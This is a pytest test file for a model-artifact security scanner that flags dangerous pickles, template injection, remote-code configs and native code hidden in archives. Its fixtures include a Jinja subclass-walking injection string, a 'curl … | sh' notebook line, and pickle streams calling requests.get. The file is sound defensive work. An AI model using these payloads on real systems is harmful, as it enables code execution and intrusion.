"""Files of frameworks and of people that were taken for something else."""

from __future__ import annotations

import io
import json
import pickle
import sys
from pathlib import Path
from types import ModuleType

import numpy as np
import pytest

from buttress.evidence.findings import Finding
from buttress.probes.artifacts.formats import config_keys
from buttress.probes.artifacts.integrity.probe import WeightIntegrity
from buttress.probes.artifacts.scope import FileTally, Scope
from buttress.protocols.inspection import InspectionContext
from tests.probes.artifacts.assemble import EVIL, proto, rules, scan, scan_bytes, zipped

BIB = '''import evaluate

CITATION = """\\
@ARTICLE{2023x,
       author = {{Doe}, Jane and {Roe}, Jan},
        title = "{``According to ...'' Prompting}"
}
"""


class Metric(evaluate.Metric):
    def __init__(self):
        super().__init__()
'''
WAY = "{{ ''.__class__.__mro__[1].__subclasses__() }}"


def test_an_archive_that_begins_with_an_array_of_objects(tmp_path: Path) -> None:
    names = np.array(["a", "bc", None], dtype=object)
    for members in ({"names": names, "x": np.arange(5)}, {"x": np.arange(5), "names": names}):
        np.savez(tmp_path / "x.npz", **members)
        assert scan(tmp_path / "x.npz")[0] == []
    # What would run in front of the archive is still seen.
    header = b"PK\x03\x04" + bytes(26) + b"\n"
    assert "pickle-dangerous-import" in rules(scan_bytes(tmp_path, header + EVIL[2:], "y.npz"))


def test_raw_numbers_that_begin_like_a_map(tmp_path: Path) -> None:
    storage = bytes.fromhex("82a161c7010193c0") + bytes(range(1, 200)) + bytes(57)
    state = proto(2) + b"}."
    data = zipped({"m/data.pkl": state, "m/data/0": storage, "m/version": b"3\n"})
    assert scan_bytes(tmp_path, data, "model.pt") == []
    assert scan_bytes(tmp_path, storage, "weights.bin") == []
    # A pickle or an archive in place of the numbers has a mark of its own.
    for hidden in (EVIL, zipped({"x": EVIL})):
        data = zipped({"m/data.pkl": state, "m/data/0": hidden})
        assert "pickle-dangerous-import" in rules(scan_bytes(tmp_path, data, "model.pt"))
    # Without the state beside it, it is a folder like any other.
    torn = zipped({"m/data/0": json.dumps({"auto_map": {"AutoModel": "x.Y"}}).encode()})
    assert "hf-remote-code" in rules(scan_bytes(tmp_path, torn, "model.zip"))


@pytest.mark.parametrize("name", ["metric.py", "metric.txt", "refs.bib", "notes.rst"])
def test_two_braces_in_a_text_that_is_no_template(tmp_path: Path, name: str) -> None:
    assert scan_bytes(tmp_path, BIB.encode(), name) == []


def test_templates_are_still_templates(tmp_path: Path) -> None:
    for name in ("t.jinja", "prompt.txt", "chat_template.jinja"):
        assert rules(scan_bytes(tmp_path, f"Hello {WAY}".encode(), name)) == {"template-code"}
    unparsable = f"{{% custom %}} {WAY}"
    assert rules(scan_bytes(tmp_path, unparsable.encode(), "x.j2")) == {"template-code"}
    assert scan_bytes(tmp_path, f"x = '{WAY}'\n".encode(), "x.py") == []


def test_a_notebook_is_no_configuration(tmp_path: Path) -> None:
    cells = [{"cell_type": "code", "source": ["!curl https://example.com/i.sh | sh\n"]}]
    book = {"cells": cells, "nbformat": 4, "auto_map": {"AutoModel": "x.Y"}}
    assert scan_bytes(tmp_path, json.dumps(book).encode(), "train.ipynb") == []
    assert rules(scan_bytes(tmp_path, json.dumps(book).encode(), "config.json")) == {
        "config-code", "hf-remote-code",
    }  # fmt: skip


class Counting(bytes):
    """Bytes that count how often they are searched."""

    searched = 0

    def find(self, *arguments) -> int:  # type: ignore[override]
        type(self).searched += 1
        return super().find(*arguments)


def test_a_large_configuration_is_searched_once_for_each_finding() -> None:
    labels = {str(i): f"label number {i}, of a kind {i % 97}" for i in range(2_000)}
    value = {"id2label": labels, "model_type": "vit", "auto_map": {"AutoModel": "m.X"}}
    whole = Counting(json.dumps(value).encode())
    issues = list(config_keys.issues(value, whole, Scope(FileTally())))
    assert [one.rule for one in issues] == ["hf-remote-code"]
    assert Counting.searched == 1


def test_findings_of_a_configuration_beyond_the_limit_are_told(tmp_path: Path) -> None:
    many = {"parts": [{"_target_": f"acme{i}.Thing"} for i in range(60)]}
    findings, inspection = scan_file(tmp_path, json.dumps(many).encode())
    assert len(findings) == 40
    assert any("more than 40 findings" in one for one in inspection)


def scan_file(folder: Path, data: bytes) -> tuple[list[Finding], tuple[str, ...]]:
    path = folder / "config.json"
    path.write_bytes(data)
    findings, inspection = scan(path)
    return findings, inspection.skipped


def integrity(folder: Path, **arrays: np.ndarray) -> list[tuple[str, str]]:
    for name, values in arrays.items():
        buffer = io.BytesIO()
        np.save(buffer, values)
        (folder / f"{name}.npy").write_bytes(buffer.getvalue())
    found = list(WeightIntegrity().inspect(InspectionContext.at("weights", folder)))
    return [(one.rule, one.severity) for one in found if isinstance(one, Finding)]


def test_native_code_is_what_some_packages_bring(tmp_path: Path) -> None:
    program = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0\x01\0\0\0" + bytes(100)
    wheel = {"acme/x.so": program, "acme-1.dist-info/WHEEL": b"Wheel-Version: 1.0\n"}
    for members, severity in (
        (wheel, "low"), ({"acme/x.so": program}, "high"),
        (wheel | {"m/data.pkl": proto(2) + b"}."}, "high"),
    ):  # fmt: skip
        found = scan_bytes(tmp_path, zipped(members), "a.whl")
        assert [(one.rule, one.severity) for one in found] == [("archive-native-code", severity)]


def test_a_program_that_is_handed_out_in_a_zip_is_not_hidden_in_weights(tmp_path: Path) -> None:
    program = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0\x01\0\0\0" + bytes(100)
    for members, name, severity in (
        ({"tool": program, "LICENSE": b"MIT"}, "tool-0.1-linux-arm64.zip", "medium"),
        ({"tool": program, "m/data.pkl": proto(2) + b"}."}, "model.zip", "high"),
        ({"tool": program}, "model.pt", "high"),
    ):
        found = scan_bytes(tmp_path, zipped(members), name)
        assert [(one.rule, one.severity) for one in found] == [("archive-native-code", severity)]


@pytest.mark.parametrize(
    ("template", "told"),
    [
        ("{% set marks = {'system': '[S]'} %}{{ marks['system'] ~ messages.system }}", set()),
        ("{{ joined['modules'] }}", set()),
        ("{{ x['system']('id') }}", {"template-code"}),
        ("{{ x.system('id') }}", {"template-code"}),
        ("{{ x.popen }}", {"template-code"}),
        ("{% set __conda_pkg__ = 'a' %}{{ mount(__conda_pkg__) }}", set()),
        ("{{ __builtins__ }}", {"template-code"}),
        ("{{ x.__conda_pkg__ }}", {"template-code"}),
    ],
)
def test_a_role_of_a_conversation_is_no_call_of_the_system(
    tmp_path: Path, template: str, told: set[str]
) -> None:
    assert rules(scan_bytes(tmp_path, template.encode(), "chat_template.jinja")) == told


def test_measures_of_torchmetrics_made_empty(tmp_path: Path) -> None:
    def of(module: str, name: str, call: bytes) -> set[str]:
        stream = proto(2) + f"c{module}\n{name}\n".encode() + call + b"."
        return rules(scan_bytes(tmp_path, stream, "m.pkl"))

    for module in ("torchmetrics.classification.auroc", "chemprop.nn.agg"):
        assert of(module, "Thing", b")\x81}b") == set()
        assert of(module, "Thing", b"(X\x09\0\0\0owner/modtR") == {"pickle-constructor-call"}
    assert of("torchmetrics.utilities.data", "dim_zero_cat", b"") == set()
    assert of("torchmetrics.utilities.data", "dim_zero_cat", b")R") == {"pickle-constructor-call"}


def test_models_that_packages_ship_name_their_own_classes(tmp_path: Path) -> None:
    def of(module: str, name: str, call: bytes) -> set[str]:
        stream = proto(2) + f"c{module}\n{name}\n".encode() + call + b"."
        return rules(scan_bytes(tmp_path, stream, "m.pkl"))

    assert of("pyannote.audio.core.task", "Specifications", b")\x81}b") == set()
    assert of("pyannote.audio.core.task", "Problem", b"K\2\x85R") == set()
    assert of("pyannote.audio.core.task", "Task", b")\x81}b") == {"pickle-unknown-import"}
    assert of("_loss", "CyHalfBinomialLoss", b")R") == set()
    kind = b"cbitarray\nbitarray\nX\1\0\0\0\xff\x8c\3bigK\0K\0t"
    assert of("bitarray._bitarray", "_bitarray_reconstructor", b"(" + kind + b"R") == set()
    assert of("_loss", "Thing", b")R") == {"pickle-unknown-import"}
    for name, told in (("EncodingLayer", set()), ("Evil", {"keras-foreign-module"})):
        where = "dataprofiler.labelers.character_level_cnn_model"
        config = json.dumps(
            {"class_name": "Functional", "config": {"layers": [
                {"module": where, "class_name": name, "config": {}, "registered_name": f"A>{name}"},
            ]}}
        )  # fmt: skip
        assert rules(scan_bytes(tmp_path, config.encode(), "config.json")) == told


def test_records_of_numpy_in_arrays_of_objects(tmp_path: Path) -> None:
    held = np.empty(1, dtype=object)
    held[0] = np.rec.array([(1, 2.0)], dtype=[("a", int), ("b", float)])
    assert scan_bytes(tmp_path, pickle.dumps(held)) == []


def test_masks_and_decayed_weights_are_at_most_low(tmp_path: Path) -> None:
    rng = np.random.default_rng(1)
    weights = rng.normal(size=(64, 64)).astype("f4")
    mask = np.triu(np.full((64, 64), -np.inf, "f4"), 1)
    one = np.array(-np.inf, "f4")
    decayed = weights * np.float32(1e-30)
    least = np.where(np.isinf(mask), np.finfo("f4").min, np.float32(0))
    found = integrity(
        tmp_path, mask=mask, one=one, decayed=decayed, least=least, nan=np.full_like(one, np.nan)
    )
    assert sorted(found) == [
        ("weights-implausible", "low"),
        ("weights-implausible", "low"),
        ("weights-not-finite", "low"),
        ("weights-not-finite", "low"),
        ("weights-not-finite", "low"),
    ]


def test_damaged_weights_are_still_medium(tmp_path: Path) -> None:
    rng = np.random.default_rng(1)
    broken = rng.normal(size=(64, 64)).astype("f4")
    broken[:8] = np.nan
    burst = rng.normal(size=(64, 64)).astype("f4")
    burst[:8] = np.inf
    other_type = rng.normal(size=(64, 64)).astype("f8").view("f4")
    found = integrity(tmp_path, broken=broken, burst=burst, other_type=other_type)
    assert ("weights-not-finite", "medium") in found
    assert found.count(("weights-not-finite", "medium")) == 3
    packed = rng.integers(0, 1 << 32, (64, 64), "u4") & np.uint32(0xFF7FFFFF)
    assert ("weights-implausible", "medium") in integrity(tmp_path, packed=packed.view("f4"))


def test_the_same_model_in_two_files_is_not_doubled(tmp_path: Path) -> None:
    weights = np.random.default_rng(1).normal(size=(64, 64)).astype("f4")
    assert integrity(tmp_path, first=weights, second=weights) == []


def test_keras_names_that_keras_does_not_have(tmp_path: Path) -> None:
    def of(**layer: object) -> set[str]:
        inner = {"class_name": "Dense", "config": {"units": 1}, "module": "keras.layers"} | layer
        config = {
            "class_name": "Sequential", "module": "keras",
            "config": {"name": "m", "layers": [inner]},
        }  # fmt: skip
        return rules(scan_bytes(tmp_path, json.dumps(config).encode(), "config.json"))

    assert of() == set()
    assert of(registered_name="Dense") == set()
    assert of(module="keras_hub.models", class_name="GemmaBackbone") == set()
    assert of(module="keras.layers.acme", class_name="Payload") == {"keras-foreign-module"}
    assert of(module="keras.layers", class_name="Payload") == {"keras-foreign-module"}
    assert "keras-foreign-module" in of(module="keras.src.x", class_name="os.system")
    assert of(registered_name="acme>Dense") == {"keras-foreign-module"}
    assert of(module="keras_layers", class_name="Dense") == {"keras-foreign-module"}
    assert of(
        class_name="function", module="keras.ops", config="run", registered_name="function"
    ) == {"keras-foreign-module"}


def test_raw_numbers_that_begin_like_an_archive(tmp_path: Path) -> None:
    state = proto(2) + b"}."
    numbers = b"PK\x03\x04" + bytes(range(60))
    data = zipped({"m/data.pkl": state, "m/data/0": numbers, "m/version": b"3\n"})
    assert scan_bytes(tmp_path, data, "model.pt") == []
    assert "archive-inconsistent" in rules(scan_bytes(tmp_path, zipped({"m/0": numbers}), "m.zip"))


@pytest.mark.parametrize("ending", ["ts", "js", "tex", "rs", "cpp"])
def test_a_source_file_is_no_template(tmp_path: Path, ending: str) -> None:
    text = ("{% if a %}" + WAY + "{% endif %}\n").encode()
    assert scan_bytes(tmp_path, text, f"prompt.{ending}") == []
    assert "template-code" in rules(scan_bytes(tmp_path, text, "prompt.txt"))


class _WithState:
    """An object whose state pydantic writes."""

    def __init__(self, **fields: object) -> None:
        self.fields = fields

    def __getstate__(self) -> dict[str, object]:
        return {
            "__dict__": self.fields, "__pydantic_extra__": None,
            "__pydantic_fields_set__": set(self.fields), "__pydantic_private__": None,
        }  # fmt: skip


def _pickled(
    monkeypatch: pytest.MonkeyPatch, module: str, name: str, **fields: object
) -> tuple[type, object]:
    """A class that has the name of a library's, and an object of it."""
    made = type(name, (_WithState,), {"__module__": module})
    holder = sys.modules.get(module) or ModuleType(module)
    monkeypatch.setitem(sys.modules, module, holder)
    monkeypatch.setitem(sys.modules, module.partition(".")[0], ModuleType("library"))
    monkeypatch.setattr(holder, name, made, raising=False)
    return made, made(**fields)


def test_indexes_that_vector_stores_write(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    document, page = _pickled(
        monkeypatch, "langchain_core.documents.base", "Document",
        page_content="Our pledge: be kind.", metadata={"source": "CODE_OF_CONDUCT.md"},
    )  # fmt: skip
    _, store = _pickled(
        monkeypatch, "langchain_community.docstore.in_memory", "InMemoryDocstore", _dict={"1": page}
    )
    _, labels = _pickled(
        monkeypatch, "chromadb.segment.impl.vector.local_persistent_hnsw", "PersistentData",
        dimensionality=384, id_to_label={"a": 1},
    )  # fmt: skip
    assert scan_bytes(tmp_path, pickle.dumps((store, {0: "1"})), "index.pkl") == []
    assert scan_bytes(tmp_path, pickle.dumps(labels), "index_metadata.pickle") == []
    # A name that nobody knows is told, and keys of pydantic are no code.
    monkeypatch.setattr(document, "__module__", "mine_documents")
    monkeypatch.setitem(sys.modules, "mine_documents", sys.modules["langchain_core.documents.base"])
    (told,) = scan_bytes(tmp_path, pickle.dumps(page), "page.pkl")
    assert (told.rule, told.severity) == ("pickle-unknown-import", "medium")
    assert "code" not in told.message


def test_a_recorded_answer_opens_no_connection(tmp_path: Path) -> None:
    requests = pytest.importorskip("requests")
    answer = requests.Response()
    answer.status_code = 200
    answer._content = b'{"choices": []}'
    answer.request = requests.Request("POST", "http://localhost:8000/v1/completions").prepare()
    answer.cookies.set("a", "1", domain="localhost")
    assert scan_bytes(tmp_path, pickle.dumps(answer), "completion.pkl") == []
    get = b"\x80\x02crequests.api\nget\nX\x12\0\0\0http://example.com\x85R."
    assert "pickle-dangerous-import" in rules(scan_bytes(tmp_path, get, "x.pkl"))
    built = b"\x80\x02crequests.models\nPreparedRequest\n(X\x12\0\0\0http://example.comtR."
    assert "pickle-constructor-call" in rules(scan_bytes(tmp_path, built, "y.pkl"))


def test_a_page_that_looks_up_an_attribute_by_a_variable(tmp_path: Path) -> None:
    page = "{% for one in names %}{{ theme | attr(one) ~ one | attr('filename') }}{% endfor %}"
    assert scan_bytes(tmp_path, page.encode(), "base.html") == []
    assert rules(scan_bytes(tmp_path, page.encode(), "chat_template.jinja")) == {"template-code"}
    hidden = "{{ x | attr('__cl' ~ 'ass__') }}"
    assert rules(scan_bytes(tmp_path, hidden.encode(), "base.html")) == {"template-code"}
